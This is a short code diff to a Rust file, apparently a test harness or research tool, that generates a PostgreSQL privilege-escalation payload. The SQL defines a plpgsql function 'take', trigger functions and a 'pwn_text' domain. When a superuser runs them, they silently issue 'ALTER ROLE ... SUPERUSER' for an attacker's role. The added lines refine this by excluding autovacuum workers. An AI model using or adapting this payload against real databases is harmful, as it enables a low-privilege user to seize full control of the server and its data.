@@ -26,6 +26,7 @@ pub fn owned_database(server: &Server, name: &str) -> (Client, Client) {
 }
 
 /// What makes a role superuser wherever a superuser runs it, as a function of each form. Expressions call immutable ones only.
+/// Autovacuum, which computes expressions of statistics with the rights of the table's owner, is the server's own.
 fn payload(role: &str) -> String {
     let function = |arguments: &str, result: &str, volatility: &str, value: &str| {
         format!(
@@ -37,6 +38,7 @@ fn payload(role: &str) -> String {
         "CREATE FUNCTION public.take() RETURNS void LANGUAGE plpgsql AS $$BEGIN
            IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user)
              AND current_setting('takeover.is_off', true) IS DISTINCT FROM 'on'
+             AND NOT EXISTS (SELECT FROM pg_catalog.pg_stat_activity WHERE pid = pg_backend_pid() AND backend_type = 'autovacuum worker')
            THEN EXECUTE 'ALTER ROLE {role} SUPERUSER'; END IF; END$$; {} {} {} {}
          CREATE DOMAIN public.pwn_text AS text CHECK (public.pwn_if(VALUE))",
         function("()", "trigger", "VOLATILE", "NEW"),
